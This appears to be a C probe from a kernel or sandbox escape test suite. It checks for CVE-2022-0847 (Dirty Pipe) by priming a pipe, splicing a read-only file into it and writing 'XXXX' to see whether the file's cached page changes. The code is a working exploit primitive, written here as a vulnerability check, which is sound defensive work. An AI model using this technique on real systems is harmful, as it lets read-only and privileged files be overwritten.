/* attack: splices a read-only file into a pipe and writes into the page that both share
   escaped: the file is changed
   layer: kernel
   control: none: kernels are mended
   source: CVE-2022-0847 */
#include "probe.h"

PROBE() {
  int ends[2];
  static char block[4096];
  if (pipe(ends) != 0) Cannot("no pipe");
  for (int i = 0; i < 16; ++i) write(ends[1], block, sizeof block);
  for (int i = 0; i < 16; ++i) read(ends[0], block, sizeof block);
  const int fd = open(ReadOnly("file"), O_RDONLY);
  if (splice(fd, NULL, ends[1], NULL, 1, 0) != 1) Cannot("cannot splice a file");
  write(ends[1], "XXXX", 4);
  char text[16] = {0};
  pread(fd, text, sizeof text - 1, 0);
  if (strncmp(text, "untouched", 9) != 0) Escaped("the file is changed");
  Held("kernel", "the page is not shared");
}
